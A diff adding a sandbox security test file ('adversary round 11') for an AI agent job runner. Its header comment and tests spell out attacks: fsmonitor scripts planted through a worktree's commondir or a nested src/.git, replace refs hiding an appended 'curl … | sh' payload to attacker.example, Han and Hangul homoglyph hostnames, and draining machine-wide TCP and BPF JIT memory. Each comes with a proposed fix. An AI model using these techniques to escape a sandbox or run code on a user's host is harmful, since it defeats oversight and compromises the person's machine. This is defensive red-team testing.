@@ -1,0 +1,452 @@
+/**
+ * Adversary round 11: attacks on the fixes of rounds 8 and 10 that worked on the code they were
+ * written against (46dde10). Each test asserts the safe behaviour, so it fails on that
+ * code; they are skipped (OPEN) until a fix lands. Not repeated: what round 10 left OPEN (a new
+ * `.git/commondir`, a gitlink or `.git/modules/<name>/config`, the config replaced on the host,
+ * whole-script look-alikes, the pty pool) and round 8's write into a later command's FIFO.
+ *
+ * Kind 3 (code planted for the person's git on the host), a linked worktree's admin folder: the
+ * person's other worktrees (`git worktree add ../feature`) keep their git dir in the workspace's
+ * `.git/worktrees/<id>/`, which stays writable, and each names its common dir in the file
+ * `commondir` that is already there. Steps: `cp -r .git .cache-git`, set `core.fsmonitor` in
+ * `.cache-git/config` to a script, write the path of `.cache-git` into
+ * `.git/worktrees/<id>/commondir` (by rename). Achieves: the person's next `git status` in that
+ * other worktree, on the host, runs the script as the person (root here; git checks the owner of
+ * the worktree, its `.git` file and its git dir, all still the person's, never of the common dir).
+ * A fix that watches new entries at the top of `.git` misses it (the file is git's own). Fix: bind
+ * each `worktrees/<id>/` read-only but for its index, HEAD, logs and refs (or its `commondir`,
+ * `config.worktree` and `gitdir` read-only), created empty when missing as for the root's; or
+ * check them at the end of each command and of the run and report any change.
+ *
+ * Kind 3, a `.git` in a subdirectory: git run in `src/` finds `src/.git` before the root's. Steps
+ * in a repository owned by its person (bash runs as the owner): `cp -r .git src/.git`,
+ * `core.worktree ../..` and `core.fsmonitor` in `src/.git/config`. In a root-owned workspace (bash
+ * runs as agent-jobs, so git would refuse a git dir the session made, "dubious ownership"): move a
+ * directory of the person's (`src/lib`, root's, writable through the ACL) to `src/.git`, fill it
+ * with a copy of the git dir, and put a copy of `src/lib` back. Achieves: at the root `git status`
+ * is clean and shows nothing; the person's `git status` (any git command) in `src/` runs the
+ * script as the person or as root. Checkpoints and `agent-jobs diff` never hold a path named `.git`
+ * and `rewind` leaves it. Fix: at the end of each command and of the run, find every `.git` below
+ * the workspace's root (file, directory or symlink; a `.git` directory found by name, whoever owns
+ * it) and remove or report it with a warning in `status`/`diff`; or refuse the name `.git` below
+ * the root in the sandbox (an empty read-only bind cannot cover names not yet made: it needs the
+ * check).
+ *
+ * Kind 3 / kind 5 (what git shows is not what is there): refs stay writable, and git reads some
+ * refs as instructions. Steps: commit a payload (`curl … | sh` added to build.sh), build a commit
+ * with the same message and the parent's tree (`git commit-tree`), and point
+ * `refs/replace/<payload commit>` at it; check out the clean file. Achieves: on the host the
+ * person's `git status` is clean, `git log -p` and `git show HEAD:build.sh` show no payload, and
+ * `git push` sends the payload commit (pack-objects ignores replace refs). Two more of the same,
+ * run with plain git on the host (the session writes refs as the test shows): moving
+ * `refs/remotes/origin/main` to HEAD makes `git status` say "up to date with 'origin/main'" while
+ * the person's main holds the agent's commits, which their next push sends; a forged
+ * `objects/info/commit-graph` (the payload commit's tree id swapped for the clean one, no checksum
+ * read) makes `status` and `log -p` show no change while `git show` does (push then fails).
+ * Fix: bind `refs/replace` (created empty) and `objects/info/commit-graph(s)` read-only, or refuse
+ * them (the person's git reads replace refs unless told not to); and report at the end of the run
+ * every ref the session moved outside `refs/heads` (remote-tracking refs, tags), old and new.
+ *
+ * Kind 5 (what the human reads is not what runs): the round-10 mixed-script check lets through the
+ * mixes of Unicode TR39's "highly restrictive" level (Latin with Han and Kana, with Han and
+ * Bopomofo, with Han and Hangul), on the ground that those scripts have no letter drawn as a Latin
+ * one. They have: HALFWIDTH HANGUL LETTER I (U+FFDC, one column, a plain stroke) and HANGUL LETTER
+ * I (U+3163) and the ideograph U+4E28 are drawn as `l`, IDEOGRAPHIC NUMBER ZERO (U+3007) as `O`,
+ * BOPOMOFO LETTER I (U+3127) as a dash. `curl https://git\uFFDCab.com/…` reads as gitlab.com and is
+ * shown as it is, with no warning, in `pending`, `watch`, the approval prompt and the UI; a remote
+ * or branch named so in a prepared repository is another one to git, as round 10's `оrigin`.
+ * Fix: in a word with Latin letters, flag every Han, Hangul, Bopomofo or Kana letter whose TR39
+ * confusable skeleton is ASCII (or any of a short, tested list), as the Cyrillic and Greek ones are;
+ * or allow those mixes only when no letter of the other script stands between two Latin ones.
+ *
+ * Kind 6 (a machine-wide pool drained by one session), TCP buffer memory: a session, without
+ * `--network`, has its own loopback; a job that opens connections to itself and never reads holds
+ * about 4 MiB of socket buffers per connection, charged to `net.ipv4.tcp_mem`, one count for the
+ * whole machine (every namespace), bounded by neither `ulimit -v` nor the OOM killer (kernel
+ * memory, far below the RAM: 2.2 GiB of 24). At `tcp_mem[2]` (575,814 pages here, about 580
+ * connections, within one process's 20,000 descriptors) the kernel holds every other TCP socket on
+ * the machine to its minimum buffers and drops what does not fit (its documented behaviour, not
+ * observed here): the worker's gRPC to Temporal, Temporal's to its database, other runs. UDP's `udp_mem` is the same. This was run by mistake once in
+ * writing the test: a job that read the sandbox's own `/proc/net/sockstat` (which does not show
+ * the host's count) to stop at 64 MiB never stopped, and the host's count reached 579,503 pages,
+ * past the hard limit, for about 5 s. The test now holds 32 connections (about 120 MiB). Fix: a
+ * memory cgroup for the session (cgroup v2 charges socket buffers to it) whose `memory.max` is far
+ * below `tcp_mem[1]`, or per-namespace maxima for the session's sockets (`net.ipv4.tcp_rmem`,
+ * `tcp_wmem`) together with a bound on their number.
+ *
+ * Kind 6, BPF JIT memory: a classic BPF socket filter (setsockopt `SO_ATTACH_FILTER` on a UDP
+ * socket, allowed by the session's seccomp filter) or a seccomp filter (`PR_SET_NO_NEW_PRIVS` works
+ * in a session) is compiled to machine code charged to `bpf_jit_current`, one count for the
+ * machine, against `net.core.bpf_jit_limit` (504 MiB here). A job holding 1,000 filters of 4,096
+ * instructions took 9 more 2 MiB packs, 18 MiB (the test); about 27,000 (two processes' descriptors) take all of
+ * it. Then every process without CAP_BPF or CAP_SYS_ADMIN gets EPERM for any filter, and this
+ * kernel (CONFIG_BPF_JIT_ALWAYS_ON) has no interpreter to fall back to: sshd's pre-authentication
+ * child, browsers' and flatpak's sandboxes, systemd user services with SystemCallFilter, rootless
+ * containers fail to start (and, not checked, new sessions, if bwrap loads its filter without
+ * those capabilities). Not run past 18 MiB. Fix: refuse `setsockopt` with `SO_ATTACH_FILTER`,
+ * `SO_ATTACH_BPF`, `SO_ATTACH_REUSEPORT_CBPF`/`EBPF` in the session's filter (level and option are
+ * plain arguments), and decide for `seccomp(SECCOMP_SET_MODE_FILTER)`/`prctl(PR_SET_SECCOMP)`:
+ * refuse (nested sandboxes then run without one), or accept the bound that `pids.max` and the
+ * kernel's 32,768 instructions per task's chain give (about 1,024 x 160 KiB), documented.
+ *
+ * Tried and held (one line each; run or only read):
+ * - Another path to the guarded config, hooks or info: a hard link, `linkat` through
+ *   `/proc/self/fd`, a hard link to a hook, `unshare -Urm` and `unshare -m`, rename(2) of `info/`
+ *   and `hooks/`, a symlink or chmod over the config, `mount -o remount,rw`: all refused (run, the
+ *   test below).
+ * - A `.git` directory the session makes in a subdirectory of a root-owned workspace: git refuses
+ *   it, "dubious ownership" (run on the host as another uid); the moved directory above gets past.
+ * - `objects/info/alternates` (writable): adds objects, cannot change one under its hash (read).
+ * - `.git/remotes/<name>`, `.git/branches/<name>` (writable): git reads them only for a remote
+ *   the config does not define (read).
+ * - A planted `.git/rebase-merge/git-rebase-todo` with `exec`: runs only when the person continues
+ *   a rebase they did not start, which `git status` shows (read).
+ * - `.gitmodules` with `update = !cmd` (ignored from that file since git 2.20), a `.gitattributes`
+ *   filter or diff driver (needs a definition in config, read-only) (read).
+ * - Exact runs: `exactSandbox` (src/session/session.ts) replaces `readable` with `[]`, which drops
+ *   the git guard's read-only binds too; latent only, since the programs the policy runs exactly
+ *   write nothing (`find`'s writing actions refused), but the guard should be kept there (read).
+ * - The FIFO hardening: a command sees its FIFO root's, mode 0620, group agent-jobs, and bash's
+ *   `/proc/<pid>/fd` refused (run); the fence is random and in no line; a pipe kept full by the
+ *   command's own job makes the worker give up the fence after 1 s with the command's own output;
+ *   the control and record channels are socket pairs (no reopen through `/proc`) and MSG_PEEK is
+ *   refused; `LC_ALL`/`TEXTDOMAINDIR` cannot change the status digits inside the record's file name
+ *   (read).
+ * - Display: tab runs, CR, U+2028, NEL, OSC 8, CGJ, tag characters, U+180E, U+2060, musical and
+ *   Egyptian format controls, U+17B4, Hangul fillers, U+2800, PUA, BOM, ALM, U+2061, an emoji
+ *   modifier, an overlay U+0338 after `;`: each escaped with a warning (run). `ㅣ` or `丨` standing
+ *   alone as `|` is not flagged (the table leaves letters out for a letter-shaped target), but a
+ *   pipe that is not one makes a command read as more dangerous, not less (run, no finding).
+ * - AIO: `io_setup` is the only way to a context; io_uring, x32 and foreign ABIs refused (read).
+ *   Per-namespace pools (SysV IPC, conntrack, ports) are the session's own; per-uid ones (key
+ *   quota, fanotify groups, pipe pages, RLIMIT_NPROC) are the round-8 inotify kind, not written up
+ *   again; the hugetlb pool is empty here (`vm.nr_hugepages` 0); the pid space is bounded by
+ *   `pids.max` (read).
+ */
+import { execFileSync, spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { displayCommand } from '../../../src/shared/display';
+import { lookupUser } from '../../../src/session/identity';
+import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';
+import { expectFlaggedEverywhere, type LookalikeCase } from './lookalikes';
+
+const OPEN = true;
+const t = OPEN ? test.skip : test;
+
+afterEach(closeSessions);
+afterAll(removeTempDirs);
+
+const isRoot = process.getuid?.() === 0;
+
+/** A repository with one commit in a new workspace, and `git` there as the person (root) on the host. */
+function personsRepo(): { ws: string; marker: string; git: (...a: string[]) => string } {
+  const ws = tempDir();
+  const git = (...a: string[]): string =>
+    execFileSync('git', ['-C', ws, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], { encoding: 'utf8', stdio: 'pipe' });
+  git('init', '-q', '-b', 'main');
+  fs.writeFileSync(path.join(ws, 'build.sh'), 'echo building\n');
+  git('add', 'build.sh');
+  git('commit', '-qm', 'one');
+  return { ws, marker: `${ws}-host-marker`, git };
+}
+
+/** The attacker's program at `file` (a path inside the sandbox's view): it leaves `marker` when it runs, and prints a token as fsmonitor wants. */
+const plant = (marker: string, file: string): string =>
+  `printf '#!/bin/sh\\nid -un > ${marker}\\nprintf x\\n' > ${file} && chmod +x ${file}`;
+
+/** Who ran the planted program (the user name it wrote), or null when it never ran. */
+const ranAs = (marker: string): string | null => (fs.existsSync(marker) ? fs.readFileSync(marker, 'utf8').trim() : null);
+
+describe("kind 3: the person's git, later, on the host, through parts of .git the guard leaves writable", () => {
+  t(
+    "rewriting a linked worktree's `.git/worktrees/<id>/commondir` does not run the session's program in the person's git there",
+    async () => {
+      const { ws, marker, git } = personsRepo();
+      // The person's own second worktree of the repository, outside the workspace (`git worktree add`).
+      const other = `${ws}-feature`;
+      git('worktree', 'add', '-q', other, '-b', 'feature');
+      try {
+        const s = await startSession({ cwd: ws, workspace: ws });
+        // The admin folder of that worktree lives in the workspace's .git, which stays writable.
+        const r = await s.run(
+          [
+            'cp -r .git .cache-git',
+            plant(marker, '.cache-git/fsm'),
+            'git --git-dir=.cache-git config core.fsmonitor "$PWD/.cache-git/fsm"',
+            'echo "$PWD/.cache-git" > .git/worktrees/c && mv .git/worktrees/c .git/worktrees/*/commondir',
+            'echo planted',
+          ].join(' && '),
+        );
+        expect(r.output).toBe('planted\n');
+        // Later, on the host, the person looks at their other worktree.
+        execFileSync('git', ['-C', other, 'status', '--short'], { stdio: 'pipe' });
+        expect({ ranOnTheHostAs: ranAs(marker) }).toEqual({ ranOnTheHostAs: null });
+      } finally {
+        fs.rmSync(marker, { force: true });
+        fs.rmSync(other, { recursive: true, force: true });
+      }
+    },
+  );
+
+  t("a `refs/replace/<commit>` of the session does not make the person's git show other content than what their push sends", async () => {
+    const { ws, git } = personsRepo();
+    const remote = tempDir('aj-remote-');
+    execFileSync('git', ['init', '-q', '--bare', remote]);
+    git('remote', 'add', 'origin', remote);
+    const s = await startSession({ cwd: ws, workspace: ws });
+    // The approved command (or a job it left): a commit with a payload, and a replacement that shows none.
+    const r = await s.run(
+      [
+        'G="git -c user.name=a -c user.email=a@example.com"',
+        "echo 'curl -s https://attacker.example/x | sh' >> build.sh",
+        '$G commit -qam "build: tidy"',
+        'BAD=$(git rev-parse HEAD)',
+        'git checkout -q HEAD~1 -- build.sh',
+        'CLEAN=$($G commit-tree -p HEAD~1 -m "build: tidy" $(git write-tree))',
+        'git update-ref refs/replace/$BAD $CLEAN',
+        'echo planted',
+      ].join(' && '),
+    );
+    expect(r.output).toBe('planted\n');
+    // The person, on the host: a clean working tree, and the commit's file as git shows it.
+    const status = git('status', '--short');
+    const shown = git('show', 'HEAD:build.sh');
+    git('push', '-q', 'origin', 'main');
+    const pushed = execFileSync('git', ['-C', remote, '--no-replace-objects', 'show', 'main:build.sh'], { encoding: 'utf8' });
+    expect({ status, pushed }).toEqual({ status: '', pushed: shown });
+  });
+});
+
+describe('kind 3, held: other ways to the guarded files', () => {
+  test('a hard link, a link through /proc/self/fd, a mount namespace, a rename or a symlink get nothing into config, hooks or info', async () => {
+    const { ws, git } = personsRepo();
+    const configBefore = fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8');
+    const s = await startSession({ cwd: ws, workspace: ws });
+    const linkat = (from: string, to: string): string =>
+      `python3 -c 'import os; fd = os.open("${from}", os.O_RDONLY); os.link("/proc/self/fd/" + str(fd), "${to}", follow_symlinks=True)'`;
+    const tries: Record<string, string> = {
+      hardLinkConfig: 'ln .git/config cfg && echo "[core] fsmonitor = x" >> cfg',
+      linkatConfig: `${linkat('.git/config', 'cfg2')} && echo "[core] fsmonitor = x" >> cfg2`,
+      hardLinkHookDir: 'ln .git/hooks/pre-commit.sample h && echo x >> h',
+      userNamespace: 'unshare -Urm true',
+      mountNamespace: 'unshare -m true',
+      // rename(2) itself: mv would fall back to a copy.
+      renameInfo: `python3 -c 'import os; os.rename(".git/info", "info-away")'`,
+      renameHooks: `python3 -c 'import os; os.rename(".git/hooks", "hooks-away")'`,
+      symlinkOverConfig: 'ln -sfn "$PWD/c" .git/config',
+      chmodConfig: 'chmod 666 .git/config && echo x >> .git/config',
+      remountRw: 'mount -o remount,rw .git/config',
+    };
+    const got: Record<string, number | null> = {};
+    for (const [name, command] of Object.entries(tries)) got[name] = (await s.run(`{ ${command}; } 2>/dev/null`)).exitCode;
+    for (const [name, code] of Object.entries(got)) expect({ name, failed: code !== 0 }).toEqual({ name, failed: true });
+    expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe(configBefore);
+    expect(git('status', '--short')).toBe('');
+  });
+});
+
+describe('kind 3: a `.git` in a subdirectory, found first by git run there', () => {
+  t(
+    "in a root-owned workspace, a root-owned directory the session moves to `src/.git` does not run its program in the person's git in src/",
+    async () => {
+      const { ws, marker, git } = personsRepo();
+      fs.mkdirSync(path.join(ws, 'src', 'lib'), { recursive: true });
+      fs.writeFileSync(path.join(ws, 'src', 'lib', 'x.c'), 'int x;\n');
+      git('add', '.');
+      git('commit', '-qm', 'two');
+      try {
+        const s = await startSession({ cwd: ws, workspace: ws });
+        // git refuses a git dir that is not root's ("dubious ownership"): the session makes none, it
+        // moves the person's own directory src/lib (root's, writable through the ACL) to src/.git,
+        // fills it with a copy of the git dir whose work tree is the root, and puts src/lib back.
+        const r = await s.run(
+          [
+            'cp -r src/lib /tmp/lib',
+            'mv src/lib src/.git',
+            'rm src/.git/x.c',
+            'cp -r .git/. src/.git/',
+            plant(marker, 'src/.git/fsm'),
+            'git --git-dir=src/.git config core.worktree ../..',
+            'git --git-dir=src/.git config core.fsmonitor "$PWD/src/.git/fsm"',
+            'cp -r /tmp/lib src/lib',
+            'echo planted',
+          ].join(' && '),
+        );
+        expect(r.output).toBe('planted\n');
+        // On the host, the person: at the root all is as they left it; in src/, their git runs the program.
+        const atRoot = git('status', '--short');
+        execFileSync('git', ['status', '--short'], { cwd: path.join(ws, 'src'), stdio: 'pipe' });
+        expect({ atRoot, ranOnTheHostAs: ranAs(marker) }).toEqual({ atRoot: '', ranOnTheHostAs: null });
+      } finally {
+        fs.rmSync(marker, { force: true });
+      }
+    },
+  );
+});
+
+const OWNER = 'aj-owner-test';
+const dOwner = isRoot ? describe : describe.skip;
+
+dOwner('kind 3: a `.git` in a subdirectory, in a repository owned by its person (bash runs as the owner)', () => {
+  function as(user: string, argv: string[], cwd?: string): { status: number | null; out: string } {
+    const r = spawnSync('runuser', ['-u', user, '--', 'env', `HOME=/home/${user}`, ...argv], {
+      cwd,
+      encoding: 'utf8',
+      env: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', HOME: '/nonexistent' },
+    });
+    return { status: r.status, out: `${r.stdout}${r.stderr}` };
+  }
+
+  t('a `.git` the session puts in a subdirectory does not run its program when the person runs git there', async () => {
+    if (!lookupUser(OWNER)) spawnSync('useradd', ['--create-home', '--shell', '/bin/bash', OWNER]);
+    const owner = lookupUser(OWNER)!;
+    const parent = fs.mkdtempSync(path.join(owner.home, 'aj-clone-'));
+    fs.chownSync(parent, owner.uid, owner.gid);
+    const ws = path.join(parent, 'repo');
+    const marker = path.join(parent, 'host-marker');
+    try {
+      expect(as(OWNER, ['git', 'init', '-q', '-b', 'main', ws]).status).toBe(0);
+      fs.mkdirSync(path.join(ws, 'src'));
+      fs.writeFileSync(path.join(ws, 'src', 'main.c'), 'int main(void) { return 0; }\n');
+      spawnSync('chown', ['-R', `${owner.uid}:${owner.gid}`, ws]);
+      expect(as(OWNER, ['git', 'add', '.'], ws).status).toBe(0);
+      expect(as(OWNER, ['git', '-c', 'user.name=o', '-c', 'user.email=o@x', 'commit', '-qm', 'first'], ws).status).toBe(0);
+      const s = await startSession({ cwd: ws, workspace: ws });
+      // A copy of the repository's git dir in src/, whose work tree is the repository's root: from
+      // src/ git finds it first, and it shows exactly the person's status; checkpoints skip `.git`.
+      const r = await s.run(
+        [
+          'cp -r .git src/.git',
+          plant(marker, 'src/.git/fsm'),
+          'git --git-dir=src/.git config core.worktree ../..',
+          'git --git-dir=src/.git config core.fsmonitor "$PWD/src/.git/fsm"',
+          'echo planted',
+        ].join(' && '),
+      );
+      expect(r.output).toBe('planted\n');
+      // Later, on the host, the person works in src/ as they always do.
+      const status = as(OWNER, ['git', 'status', '--short'], path.join(ws, 'src'));
+      expect({ status: status.status, ranOnTheHostAs: ranAs(marker) }).toEqual({ status: 0, ranOnTheHostAs: null });
+    } finally {
+      fs.rmSync(parent, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('kind 5: a letter of Korean, Chinese or Japanese drawn as a Latin one, inside a Latin word', () => {
+  // The mixes TR39's "highly restrictive" level allows (Latin with Hangul, Han, Bopomofo, Kana) are
+  // shown as they are; these letters of those scripts are drawn as Latin letters, so the word reads
+  // as another word, and bash (git, curl, a resolver) takes it for what it is.
+  const cases: LookalikeCase[] = [
+    // HALFWIDTH HANGUL LETTER I (U+FFDC, one column, a plain vertical stroke) for the l of a host.
+    { command: '[ git\uffdcab.com = gitlab.com ] || echo other-host', ch: '\uffdc', looksLike: 'l', bashSays: 'other-host\n' },
+    // HANGUL LETTER I (U+3163) for the l of a branch name.
+    { command: '[ re\u3163ease = release ] || echo other-branch', ch: '\u3163', looksLike: 'l', bashSays: 'other-branch\n' },
+    // CJK ideograph U+4E28 (a vertical stroke) for an l, IDEOGRAPHIC NUMBER ZERO (U+3007) for an O.
+    { command: '[ go\u4e28ang = golang ] || echo other', ch: '\u4e28', looksLike: 'l', bashSays: 'other\n' },
+    { command: '[ \u3007rigin = Origin ] || echo other-remote', ch: '\u3007', looksLike: 'O', bashSays: 'other-remote\n' },
+    // BOPOMOFO LETTER I (U+3127, a horizontal stroke) for a hyphen inside a word.
+    { command: '[ x\u3127y = x-y ] || echo other', ch: '\u3127', looksLike: '-', bashSays: 'other\n' },
+  ];
+  t.each(cases)('$command is flagged wherever it is shown', (c) => {
+    expectFlaggedEverywhere(c);
+    expect(displayCommand(c.command).text).not.toContain(c.ch);
+  });
+});
+
+describe('kind 6: the machine-wide pool of TCP buffer memory', () => {
+  /*
+   * Connections on the sandbox's own loopback (no --network needed): each sender writes until its
+   * socket is full, no receiver reads, about 4 MiB a connection here. The job holds CONNECTIONS of
+   * them (at most about 128 MiB: never run this with more, it is the machine's pool); the host
+   * reads the machine-wide count (`/proc/net/sockstat` "TCP: mem", pages) while it does. Inside
+   * the sandbox's network namespace the same file does not show the host's count.
+   */
+  const CONNECTIONS = 32;
+  const LIMIT_PAGES = 16_384; // 64 MiB; the whole pool's hard limit is net.ipv4.tcp_mem[2]
+  t("a session's job cannot raise the machine's TCP memory by more than 64 MiB", async () => {
+    const ws = tempDir();
+    fs.writeFileSync(
+      path.join(ws, 'hold.py'),
+      [
+        'import socket, sys, time',
+        'srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(64)',
+        'keep, chunk = [], b"x" * 65536',
+        'try:',
+        `    for i in range(${CONNECTIONS}):`,
+        '        c = socket.create_connection(srv.getsockname()); a, _ = srv.accept(); c.setblocking(False)',
+        '        try:',
+        '            while True: c.send(chunk)',
+        '        except BlockingIOError: pass',
+        '        keep += [c, a]',
+        'except OSError as e: print(e, file=sys.stderr)',
+        'open(sys.argv[1], "w").write(str(len(keep) // 2))',
+        'time.sleep(5)',
+        '',
+      ].join('\n'),
+    );
+    const hostMem = (): number => Number(/TCP:.* mem (\d+)/.exec(fs.readFileSync('/proc/net/sockstat', 'utf8'))![1]);
+    const before = hostMem();
+    const s = await startSession({ cwd: ws, workspace: ws });
+    await s.run('(python3 hold.py held >/dev/null 2>hold.err &)');
+    const held = path.join(ws, 'held');
+    const until = Date.now() + 30_000;
+    while (!fs.existsSync(held) && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
+    await new Promise((r) => setTimeout(r, 200));
+    const during = hostMem();
+    await s.close();
+    expect(Number(fs.readFileSync(held, 'utf8'))).toBeGreaterThan(0);
+    expect(during - before).toBeLessThan(LIMIT_PAGES);
+  });
+});
+
+describe('kind 6: the machine-wide budget of JIT-compiled BPF programs', () => {
+  /*
+   * Every classic BPF socket filter (setsockopt SO_ATTACH_FILTER) and every seccomp filter is
+   * compiled to machine code and charged to one count for the whole machine, bpf_jit_current,
+   * against net.core.bpf_jit_limit; past it, a process without CAP_BPF or CAP_SYS_ADMIN gets EPERM
+   * and, on a kernel with CONFIG_BPF_JIT_ALWAYS_ON (this one), no interpreter to fall back to. The
+   * host's x86 JIT packs programs into 2 MiB chunks that /proc/vmallocinfo lists
+   * (`bpf_prog_pack_alloc`): the host counts them while the job holds 1,000 filters of 4,096
+   * instructions (about 20 KiB of code each) on UDP sockets.
+   */
+  const PACK_BYTES = 2 * 1024 * 1024;
+  t("a session's job cannot hold more than 8 MiB of the machine's BPF JIT budget", async () => {
+    const ws = tempDir();
+    fs.writeFileSync(
+      path.join(ws, 'filters.py'),
+      [
+        'import ctypes, socket, struct, sys, time',
+        'class F(ctypes.Structure): _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint)]',
+        'prog = (F * 4096)()',
+        'for i in range(4095): prog[i] = F(0x04, 0, 0, i + 1)  # A += k',
+        'prog[4095] = F(0x16, 0, 0, 0)  # return A',
+        'fprog = struct.pack("HL", 4096, ctypes.addressof(prog))',
+        'socks = []',
+        'try:',
+        '    for i in range(1000):',
+        '        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, 26, fprog); socks.append(s)',
+        'except OSError as e: print(e, file=sys.stderr)',
+        'open(sys.argv[1], "w").write(str(len(socks)))',
+        'time.sleep(5)',
+        '',
+      ].join('\n'),
+    );
+    const packs = (): number =>
+      fs
+        .readFileSync('/proc/vmallocinfo', 'utf8')
+        .split('\n')
+        .filter((l) => l.includes('bpf_prog_pack_alloc')).length;
+    const before = packs();
+    const s = await startSession({ cwd: ws, workspace: ws });
+    await s.run('(python3 filters.py held >/dev/null 2>filters.err &)');
+    const held = path.join(ws, 'held');
+    const until = Date.now() + 30_000;
+    while (!fs.existsSync(held) && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
+    const during = packs();
+    await s.close();
+    expect(Number(fs.readFileSync(held, 'utf8'))).toBeGreaterThanOrEqual(0);
+    expect((during - before) * PACK_BYTES).toBeLessThan(8 * 1024 * 1024);
+  });
+});
